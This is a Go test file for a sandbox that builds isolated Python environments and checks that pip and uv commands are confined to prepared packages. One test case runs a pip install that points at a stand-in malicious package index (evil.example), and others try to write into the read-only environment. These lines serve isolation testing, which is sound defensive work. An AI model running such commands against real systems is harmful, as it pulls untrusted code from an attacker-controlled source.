//go:build amd64 || arm64

package environments_test

import (
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/skills-mcp/skills-mcp/internal/testenv"
	"github.com/skills-mcp/skills-mcp/sandbox"
	"github.com/skills-mcp/skills-mcp/sandbox/environments"
	"github.com/skills-mcp/skills-mcp/sandbox/local"
	"github.com/skills-mcp/skills-mcp/sandbox/workspaces"
)

func TestMain(m *testing.M) {
	code := 0
	if text := os.Getenv(orderVariable); text != "" {
		code = obey(text)
	} else {
		code = m.Run()
	}
	if opened, err := backend(); err == nil {
		_ = opened.Close()
	}
	os.Exit(code)
}

// uv returns the program that make test-setup installs, or the system's.
func uv(t testing.TB) string {
	t.Helper()
	own, err := filepath.Abs("../../integration/packages/.venv/bin/uv")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(own); err == nil {
		return own
	}
	if found := environments.FindUV(); found != "" {
		return found
	}
	testenv.Need(t, "python", errors.New("there is no program uv"))
	return ""
}

// fixture is a store, and what makes environments in it.
type fixture struct {
	*index
	store      *environments.Store
	backend    sandbox.Backend
	workspaces *workspaces.Store
}

// backend is shared by the tests: it takes no part in what they show.
var backend = sync.OnceValues(func() (*local.Backend, error) { return local.New(context.Background(), local.Options{Project: "/"}) })

func newFixture(t testing.TB) *fixture {
	t.Helper()
	opened, err := backend()
	if err == nil && opened.Info().Tier != string(local.Full) {
		err = errors.New("there is no sandbox of the tier full")
	}
	if err != nil {
		t.Skipf("needs the local sandbox: %v", err)
	}
	made, err := workspaces.New(t.TempDir(), workspaces.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := made.Close(); err != nil {
			t.Error(err)
		}
	})
	return &fixture{
		index: newIndex(t), backend: opened, workspaces: made,
		store: &environments.Store{Dir: filepath.Join(cacheDir(t), "environments"), Machine: "local"},
	}
}

// cacheDir is a directory to which other users find the way.
func cacheDir(t testing.TB) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "environments-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// request is one for what is wanted.
func (f *fixture) request(t testing.TB, wanted environments.Wanted) environments.Request {
	program := ""
	if len(wanted.Python) > 0 {
		program = uv(t)
	}
	if len(wanted.Npm) > 0 {
		for _, program := range []string{"node", "npm"} {
			_, err := exec.LookPath(program)
			testenv.Need(t, "node", err)
		}
	}
	return f.requestWith(wanted, program)
}

func (f *fixture) requestWith(wanted environments.Wanted, uv string) environments.Request {
	return environments.Request{
		Wanted: wanted, Backend: f.backend, Egress: func() (sandbox.Egress, error) { return f.index, nil }, EgressEnv: proxyVariables(), Indexes: f.indexes(),
		UV: uv, Workspaces: f.workspaces,
	}
}

func (f *fixture) prepare(t testing.TB, wanted environments.Wanted) *environments.Environment {
	t.Helper()
	made, err := f.store.Prepare(t.Context(), f.request(t, wanted))
	if err != nil {
		t.Fatal(err)
	}
	return made
}

// run runs a shell program with an environment, in a workspace with files.
func (f *fixture) run(t testing.TB, e *environments.Environment, shell string, files entries) sandbox.Result {
	t.Helper()
	workspace, err := f.workspaces.Create("test")
	if err != nil {
		t.Fatal(err)
	}
	defer workspace.Acquire()()
	for name, text := range files {
		if err := os.WriteFile(filepath.Join(workspace.Dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	spec := sandbox.Spec{Shell: shell, Workspace: workspace.Dir, Private: workspace.Private, Owner: "test"}
	if e != nil {
		spec.Show, spec.Path, spec.Env = e.Show, e.Path, e.Env
	}
	result, err := f.backend.Run(t.Context(), spec)
	if err != nil {
		t.Fatal(err)
	}
	return result
}

// expect runs a shell program that is to print something.
func (f *fixture) expect(t testing.TB, e *environments.Environment, shell string, files entries, want string) {
	t.Helper()
	result := f.run(t, e, shell, files)
	if got := string(result.Stdout.Data); result.ExitCode != 0 || !strings.Contains(got, want) {
		t.Errorf("%s: %s %d\nstdout: %s\nstderr: %s\nwant %q", shell, result.Status, result.ExitCode, got, result.Stderr.Data, want)
	}
}

// greeting adds two packages of Python, of which one has a program and needs the
// other.
func (f *fixture) greeting() environments.Wanted {
	f.wheel("greeting", "1.2", entries{
		"greeting/__init__.py":                    "import words\ndef main(): print('greeting', words.WORD)\n",
		"greeting-1.2.dist-info/entry_points.txt": "[console_scripts]\ngreet = greeting:main\n",
	}, "Requires-Dist: words>=1")
	f.wheel("words", "1.0", entries{"words.py": "WORD = 'hello'\n"})
	f.wheel("words", "0.9", entries{"words.py": "WORD = 'old'\n"})
	return environments.Wanted{Python: []string{"greeting>=1"}}
}

func TestPython(t *testing.T) {
	t.Parallel()
	testenv.Slow(t, "making an environment")
	f := newFixture(t)
	wanted := f.greeting()
	if _, err := f.store.Find(wanted); !errors.Is(err, environments.ErrNotPrepared) {
		t.Fatalf("before it is made: %v", err)
	}
	made := f.prepare(t, wanted)
	if len(made.Packages) != 2 || made.Packages[0] != (environments.Package{Kind: "python", Name: "greeting", Version: "1.2"}) {
		t.Errorf("packages %v", made.Packages)
	}
	found, err := f.store.Find(wanted)
	if err != nil || found.Key != made.Key || found.Bytes == 0 {
		t.Fatalf("found %+v, %v", found, err)
	}
	if lock, err := os.ReadFile(filepath.Join(made.Show[0], "lock.json")); err != nil || !strings.Contains(string(lock), "greeting==1.2 --hash=sha256:") ||
		made.Key != fmt.Sprintf("sha256:%x", sha256.Sum256(lock)) {
		t.Errorf("the key %s is not the digest of the lock %s, %v", made.Key, lock, err)
	}
	const script = "# /// script\n# dependencies = [\"greeting>=1\"]\n# ///\nimport greeting; greeting.main()\n"
	for name, test := range map[string]struct{ shell, want string }{
		"python":                  {`python -c 'import greeting; greeting.main()'`, "greeting hello"},
		"python3":                 {`python3 -c 'import greeting; greeting.main()'`, "greeting hello"},
		"its program":             {`greet`, "greeting hello"},
		"modules are compiled":    {`python -v -c 'import greeting' 2>&1 | grep 'matches.*greeting.*/__init__.py'`, "greeting"},
		"uv run script.py":        {`uv run s.py`, "greeting hello"},
		"uv run --script":         {`uv run --script -q s.py`, "greeting hello"},
		"uv run --with":           {`uv run --with 'greeting>=1,<2' --with words python -c 'import greeting; greeting.main()'`, "greeting hello"},
		"uv run -m":               {`uv run -m words && echo ran`, "ran"},
		"uv run a program":        {`uv run greet`, "greeting hello"},
		"uvx":                     {`uvx --from greeting greet`, "greeting hello"},
		"uv tool run":             {`uv tool run greet`, "greeting hello"},
		"pip install":             {`pip install -q --upgrade --user --break-system-packages "greeting>=1" pip && pip3 install words==1.0`, "Already there"},
		"pip install -r":          {`pip install -r requirements.txt --index-url https://evil.example/simple`, "requirements.txt"},
		"python -m pip":           {`python -m pip install --no-cache-dir greeting`, "Already there"},
		"uv pip install":          {`uv pip install --system greeting`, "Already there"},
		"uv pip list":             {`uv pip list 2>&1`, "greeting"},
		"pip list":                {`pip list 2>&1`, "words"},
		"uv add":                  {`uv add greeting`, "Already there"},
		"the shebang of a script": {`chmod +x s.py; sed -i '1i #!/usr/bin/env -S uv run --script' s.py; ./s.py`, "greeting hello"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f.expect(t, found, test.shell, entries{"s.py": script, "requirements.txt": "greeting\nwords>=1\n"}, test.want)
		})
	}
	for name, test := range map[string]struct{ shell, want string }{
		"pip install of another version": {`pip install 'greeting>=2'`, "skills-mcp prepare"},
		"pip install of what is missing": {`pip install absent`, "skills-mcp prepare"},
		"pip install of a directory":     {`pip install .`, "cannot be installed here"},
		"pip install --target":           {`pip install --target x greeting`, "not possible"},
		"pip install of no file":         {`pip install -r absent.txt`, "no file absent.txt"},
		"uv run of what is missing":      {`uv run --with absent python -c 1`, "skills-mcp prepare"},
		"uvx of what is missing":         {`uvx absent`, "skills-mcp prepare"},
		"writing to it":                  {`echo x >"$VIRTUAL_ENV/lib/x"`, "Read-only file system"},
		"another way to write to it":     {`chmod 777 "$VIRTUAL_ENV"`, "Read-only file system"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			result := f.run(t, found, test.shell, nil)
			if got := string(result.Stderr.Data); result.ExitCode == 0 || !strings.Contains(got, test.want) {
				t.Errorf("%s: %s %d\nstdout: %s\nstderr: %s\nwant %q", test.shell, result.Status, result.ExitCode, result.Stdout.Data, got, test.want)
			}
		})
	}
	t.Run("others have nothing of it", func(t *testing.T) {
		t.Parallel()
		if result := f.run(t, nil, `python3 -c 'import greeting'`, nil); result.ExitCode == 0 {
			t.Error("a run without it imports what is in it")
		}
	})
}

func TestInterpreterThatChanged(t *testing.T) {
	t.Parallel()
	// The record names an interpreter; what it is like is looked at each time.
	f := newFixture(t)
	wanted := f.greeting()
	f.prepare(t, wanted)
	records, err := filepath.Glob(filepath.Join(f.store.Dir, "wanted", "*"))
	if err != nil || len(records) != 1 {
		t.Fatal(records, err)
	}
	text, err := os.ReadFile(records[0])
	if err != nil {
		t.Fatal(err)
	}
	changed := strings.Replace(string(text), `"size":`, `"size":1`, 1)
	if err := os.WriteFile(records[0], []byte(changed), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := f.store.Find(wanted); !errors.Is(err, environments.ErrNotPrepared) || !strings.Contains(err.Error(), "interpreter") {
		t.Errorf("found with another interpreter: %v", err)
	}
	if f.prepare(t, wanted); !f.wasAsked("simple/greeting") {
		t.Error("the index was not asked again")
	}
	if _, err := f.store.Find(wanted); err != nil {
		t.Error(err)
	}
}

func TestPrune(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	wanted := f.greeting()
	made := f.prepare(t, wanted)
	if pruned, err := f.store.Prune(time.Hour); err != nil || len(pruned.Removed) != 0 {
		t.Fatalf("pruned %v, %v", pruned, err)
	}
	pruned, err := f.store.Prune(0)
	if err != nil || len(pruned.InUse) != 0 || len(pruned.Removed) != 1 || pruned.Removed[0].Key != made.Key || pruned.Removed[0].Bytes == 0 {
		t.Fatalf("pruned %v, %v", pruned, err)
	}
	if _, err := f.store.Find(wanted); !errors.Is(err, environments.ErrNotPrepared) {
		t.Errorf("found after it was removed: %v", err)
	}
	f.unchanged(t)
	f.expect(t, f.prepare(t, wanted), "greet", nil, "hello")
}

// BenchmarkRun compares a run that has an environment with one that has none.
func BenchmarkRun(b *testing.B) {
	f := newFixture(b)
	made := f.prepare(b, f.greeting())
	for name, e := range map[string]*environments.Environment{"with": made, "without": nil} {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				f.run(b, e, "python3 -c 'import json'", nil)
			}
		})
	}
}

// TestMissingTool: the program uv of an environment is gone where another process
// pruned what it knew of while the environment was made. Then there is none, and
// it is made whole again.
func TestMissingTool(t *testing.T) {
	t.Parallel()
	testenv.Slow(t, "making an environment")
	f := newFixture(t)
	wanted := f.greeting()
	made := f.prepare(t, wanted)
	tool := filepath.Join(f.store.Dir, "tools", made.UV)
	if err := os.RemoveAll(tool); err != nil {
		t.Fatal(err)
	}
	if _, err := f.store.Find(wanted); !errors.Is(err, environments.ErrNotPrepared) {
		t.Errorf("without its uv: %v", err)
	}
	f.expect(t, f.prepare(t, wanted), "uv run --no-project python -c 'import greeting; greeting.main()'", nil, "greeting hello")
}
